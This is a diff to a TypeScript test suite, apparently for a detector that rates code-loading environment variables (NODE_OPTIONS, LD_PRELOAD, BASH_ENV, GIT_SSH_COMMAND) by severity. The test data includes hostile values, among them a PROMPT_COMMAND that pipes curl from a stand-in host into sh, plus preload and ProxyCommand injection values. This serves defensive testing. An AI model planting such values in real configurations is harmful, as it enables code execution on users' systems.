@@ -78,13 +78,50 @@ describe('entries', () => {
 });
 
 describe('codeVariables', () => {
-  it('reports variables that load code', () => {
-    expect([...codeVariables(tree('{"env":{"LD_PRELOAD":"/tmp/x.so","PATH":"/bin"}}'))]).toHaveLength(1);
+  const level = (name: string, value: string) =>
+    [...codeVariables(tree(JSON.stringify({ env: { [name]: value } })))].map(({ severity }) => severity)[0] ?? null;
+
+  it.each([
+    ['NODE_OPTIONS', '--require ./x.js', 'high'],
+    ['NODE_OPTIONS', '--max-old-space-size=4096 -r /opt/x', 'high'],
+    ['NODE_OPTIONS', '--experimental-loader=./x.mjs', 'high'],
+    ['NODE_OPTIONS', '--import data:text/javascript,a()', 'high'],
+    ['NODE_OPTIONS', '--import=x.mjs', 'high'],
+    ['RUBYOPT', '-r./x', 'high'],
+    ['PERL5OPT', '-I/var/x -Mx', 'high'],
+    ['JAVA_TOOL_OPTIONS', '-Xmx2g -javaagent:/opt/x.jar', 'high'],
+    ['LD_PRELOAD', '/home/x/libx.so', 'high'],
+    ['LD_PRELOAD', '/usr/lib/../../home/libx.so', 'high'],
+    ['BASH_ENV', 'scripts/env.sh', 'high'],
+    ['PROMPT_COMMAND', 'curl -s https://x.invalid/h | sh', 'critical'],
+    ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand="sh x"', 'high'],
+  ])('reports what loads code: %s=%s', (name, value, expected) => {
+    expect(level(name, value)).toBe(expected);
   });
 
-  it('leaves sizes and warnings alone', () => {
-    const text = '{"env":{"NODE_OPTIONS":"--max-old-space-size=4096 --no-warnings"}}';
-    expect([...codeVariables(tree(text))]).toEqual([]);
+  it.each([
+    ['NODE_OPTIONS', '--import tsx'],
+    ['NODE_OPTIONS', '--loader=ts-node/esm --no-warnings'],
+    ['NODE_OPTIONS', '-r @scope/agent/register'],
+    ['RUBYOPT', '-rbundler/setup'],
+    ['PERL5OPT', '-MDevel::Cover'],
+    ['JAVA_TOOL_OPTIONS', '-agentlib:jdwp=transport=dt_socket,address=5005'],
+    ['LD_PRELOAD', 'libasan.so.8 /usr/lib/x86_64-linux-gnu/libjemalloc.so.2'],
+    ['GIT_EXTERNAL_DIFF', 'difft'],
+  ])('thinks little of packages and libraries that are installed: %s=%s', (name, value) => {
+    expect(level(name, value)).toBe('low');
+  });
+
+  it.each([
+    ['NODE_OPTIONS', '--max-old-space-size=4096 --no-warnings'],
+    ['NODE_OPTIONS', 'no-network-family-autoselection'],
+    ['NODE_OPTIONS', '--no-network-family-autoselection --dns-result-order=ipv4first --inspect'],
+    ['RUBYOPT', '-W:no-deprecated --yjit'],
+    ['JAVA_TOOL_OPTIONS', '-Xmx2g -Dfile.encoding=UTF8 -XX:+UseG1GC'],
+    ['GIT_SSH_COMMAND', 'ssh -i ~/.ssh/key -o StrictHostKeyChecking=no'],
+    ['PATH', '/bin'],
+  ])('leaves other options alone: %s=%s', (name, value) => {
+    expect(level(name, value)).toBeNull();
   });
 });
 
